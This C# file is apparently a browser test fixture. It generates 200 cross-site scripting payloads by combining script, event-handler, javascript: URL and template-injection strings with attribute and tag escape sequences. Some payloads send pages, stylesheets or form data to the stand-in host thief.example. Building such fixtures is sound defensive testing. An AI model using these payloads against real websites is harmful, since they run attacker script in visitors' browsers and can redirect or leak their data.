namespace TokenUsage.Browser.Tests;

/// <summary>Names that would run as a script wherever a page took text for markup, an address or code.</summary>
internal static class HostileNames
{
    private static readonly string[] Cores =
    [
        "<script>window.pwned=1</script>",
        "<img src=x onerror=window.pwned=1>",
        "<svg onload=window.pwned=1>",
        "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
        "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
        "<iframe src=javascript:parent.pwned=1></iframe>",
        "<a href=javascript:window.pwned=1>x</a>",
        "<a href='data:text/html,<script>1</script>'>x</a>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
        "<details open ontoggle=window.pwned=1>",
        "<input autofocus onfocus=window.pwned=1>",
        "<video><source onerror=window.pwned=1>",
        "<body onpageshow=window.pwned=1>",
        "<object data=javascript:window.pwned=1>",
        "<embed src=javascript:window.pwned=1>",
        "<base href=https://thief.example/>",
        "<meta http-equiv=refresh content='0;url=https://thief.example/'>",
        "<link rel=stylesheet href=https://thief.example/x.css>",
        "<style>@import 'https://thief.example/x.css'</style>",
        "<form action=https://thief.example/><button>x</button></form>",
        "<template><img src=x onerror=window.pwned=1></template>",
        "javascript:window.pwned=1",
        "${window.pwned=1}",
        "{{constructor.constructor('window.pwned=1')()}}",
        "{a|window.pwned=1}",
    ];

    // Ways out of the places that a text may be written to: an attribute, an element, a string, a comment.
    private static readonly Func<string, string>[] Wrappings =
    [
        core => core,
        core => "\">" + core,
        core => "'>" + core,
        core => "</td></tr></table>" + core,
        core => "</script>" + core,
        core => "--><!--" + core,
        core => "`;window.pwned=1;//" + core,
        core => "\u2028\\u003c" + core.ToUpperInvariant(),
    ];

    /// <summary>Gets 200 of them.</summary>
    public static IReadOnlyList<string> All { get; } =
        [.. from wrap in Wrappings from core in Cores select wrap(core)];
}
